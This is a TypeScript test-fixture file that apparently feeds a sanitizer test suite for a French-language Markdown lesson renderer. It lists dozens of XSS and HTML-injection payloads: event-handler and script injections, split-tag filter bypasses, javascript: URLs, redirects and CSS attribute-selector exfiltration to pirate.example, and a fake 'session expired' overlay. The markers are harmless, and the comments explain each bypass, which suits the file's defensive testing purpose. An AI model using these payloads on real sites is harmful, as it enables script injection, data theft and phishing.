// SPDX-License-Identifier: AGPL-3.0-or-later
import { lines, listPayloads } from './payload.ts';

export const htmlHandlerPayloads = listPayloads('html-handler', {
  'handler-01': `<img src=x onerror="__tripwire('handler-01')">`,
  // No quote, no equals sign: the only unquoted value that CommonMark also takes for HTML.
  'handler-02': 'Internet <img src=x onerror=__tripwire(/handler-02/.source)> relie des machines.',
  'handler-03': `<details open ontoggle="__tripwire('handler-03')"><summary>Le voyage</summary></details>`,
  'handler-04': `<body onload="__tripwire('handler-04')">`,
  'handler-05': `<video controls><source src="x" onerror="__tripwire('handler-05')"></video>`,
  'handler-06': `<audio src="x" onerror="__tripwire('handler-06')"></audio>`,
  'handler-07': `<input autofocus onfocus="__tripwire('handler-07')">`,
  'handler-08': lines(
    `<div popover id="bulle" onbeforetoggle="__tripwire('handler-08')">Bulle</div>`,
    '<button popovertarget="bulle">Ouvrir la bulle</button>',
  ),
  'handler-09': lines(
    '<style>@keyframes essaim { from { opacity: 0 } }</style>',
    `<p style="animation: essaim 1ms" onanimationstart="__tripwire('handler-09')">Une ruche</p>`,
  ),
  'handler-10': `<a href="#suite" onclick="__tripwire('handler-10')">Lire la suite</a>`,
  'handler-11': `<ImG SrC=x OnErRoR="__tripwire('handler-11')">`,
  // Slashes separate attributes for a browser, not for CommonMark: it must come out as text, not as "unknown HTML".
  'handler-12': `<img/src="x"/onerror="__tripwire('handler-12')">`,
  'handler-13': lines('<img', 'src="x"', `onerror="__tripwire('handler-13')"`, '>'),
  // The first of two equal attributes wins in a browser, the last one in a map.
  'handler-14': `<img src="x" onerror="__tripwire('handler-14')" onerror="void 0">`,
  // Nothing closes the tag: the page's own markup would.
  'handler-15': `Une phrase sans fin <img src="x" onerror="__tripwire('handler-15')" alt=`,
  'handler-16': `<img\fsrc="x"\fonerror="__tripwire('handler-16')">`,
  'handler-17': `<img src=x onerror="&#95;&#x5f;tripwire(&apos;handler-17&apos;)">`,
  'handler-18': lines('> 1. Une citation', `>    - <img src=x onerror="__tripwire('handler-18')">`),
  'handler-19': `## Le réseau <img src=x onerror="__tripwire('handler-19')"> des réseaux`,
  'handler-20': `<object data="/absent.bin" onerror="__tripwire('handler-20')">Repli</object>`,
  'handler-21': `<link rel="stylesheet" href="/absent.css" onerror="__tripwire('handler-21')">`,
  'handler-22': `<style onload="__tripwire('handler-22')">p { color: inherit }</style>`,
  'handler-23': `<iframe onload="__tripwire('handler-23')"></iframe>`,
  // A second "<" inside the tag: a stripper that stops at the first ">" leaves the handler behind.
  'handler-24': `<img alt="<p>" src=x onerror="__tripwire('handler-24')">`,
  'handler-25': `<textarea autofocus onfocus="__tripwire('handler-25')">Votre avis</textarea>`,
  'handler-26': `<p onpointerenter="__tripwire('handler-26')">Survolez cette définition.</p>`,
  'handler-27': `<form onsubmit="__tripwire('handler-27')"><button>Valider</button></form>`,
  'handler-28': `<img srcset="x 1x, y 2x" onerror="__tripwire('handler-28')">`,
  'handler-29': `<x-essaim tabindex="0" autofocus onfocus="__tripwire('handler-29')">Mot inventé</x-essaim>`,
  'handler-30': `**gras <img src=x onerror="__tripwire('handler-30')"> et _penché_**`,
  // The spaces of French punctuation are rewritten at display: never inside markup, nor into markup.
  'handler-31': `« <img src=x onerror="true ? __tripwire('handler-31') : 0 ; 1 !== 2"> » : vraiment ?`,
});

export const htmlElementPayloads = listPayloads('html-element', {
  'element-01': `<script>__tripwire('element-01')</script>`,
  'element-02': `<ScRiPt\n>__tripwire('element-02')</sCrIpT >`,
  'element-03': `<script src="data:text/javascript,__tripwire('element-03')"></script>`,
  'element-04': `<script type="module">window.__tripwire('element-04')</script>`,
  // What a single pass of deletion puts together again.
  'element-05': `<scr<script></script>ipt>__tripwire('element-05')</scr<script></script>ipt>`,
  'element-06': `</p></article></main></body></html><script>__tripwire('element-06')</script>`,
  'element-07': `<iframe srcdoc="<script>parent.__tripwire('element-07')</script>"></iframe>`,
  'element-08': `<iframe src="javascript:parent.__tripwire('element-08')"></iframe>`,
  'element-09': `<embed src="javascript:parent.__tripwire('element-09')">`,
  'element-10': '<base href="https://pirate.example/">\n\n[Leçon suivante](02-le-voyage-d-un-message.md)',
  'element-11': '<meta http-equiv="refresh" content="0;url=https://pirate.example/">',
  'element-12': '<meta http-equiv="Set-Cookie" content="essaim=1"><meta name="referrer" content="unsafe-url">',
  'element-13': `<form action="javascript:__tripwire('element-13')"><button>Envoyer mes réponses</button></form>`,
  // The button belongs to the page's own form, wherever it stands.
  'element-14': `<button form="reponses" formaction="javascript:__tripwire('element-14')">Corriger</button>`,
  'element-15': lines(
    `<style>@import 'https://pirate.example/suivi.css';`,
    `input[value^='a'] { background: url(//pirate.example/a) }</style>`,
  ),
  'element-16': '<p style="position:fixed;inset:0;background:#fff;z-index:9999">Session expirée</p>',
  'element-17': 'Avant\n\n<plaintext>\n\nAprès',
  'element-18': `<xmp></xmp><img src=x onerror="__tripwire('element-18')">`,
  'element-19': `<template shadowrootmode="open"><img src=x onerror="__tripwire('element-19')"></template>`,
  'element-20': `<title></title><img src=x onerror="__tripwire('element-20')">`,
  'element-21': `</textarea></title></style></noscript><script>__tripwire('element-21')</script>`,
  'element-22': `<input type="hidden" name="csrf" value="vole"><input type="password" name="mot-de-passe">`,
  'element-23': '<object data="https://pirate.example/a.swf"><param name="AllowScriptAccess" value="always"></object>',
  'element-24': lines(
    '<link rel="dns-prefetch" href="//pirate.example">',
    '<link rel="preload" as="image" href="//pirate.example/i">',
  ),
});
